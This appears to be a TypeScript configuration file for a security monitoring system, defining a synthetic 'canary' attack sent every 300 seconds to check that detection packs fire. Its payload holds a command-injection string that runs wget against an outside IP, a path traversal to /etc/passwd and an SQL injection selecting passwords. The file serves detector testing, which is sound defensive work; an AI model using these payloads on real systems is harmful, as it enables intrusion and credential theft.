/** Under whose id the gates send the synthetic attack. No device can be registered so. */
export const canaryClient = "sentinel-canary";

/** How often each gate sends one. */
export const canarySeconds = 300;

/** What any pack must find: a command, a path and a query that no device reports. */
export const canaryPayload = JSON.stringify({
  ntp: "pool.ntp.org; wget http://198.51.100.7/a",
  path: "../../../../etc/passwd",
  query: "x' UNION SELECT password FROM users --",
});
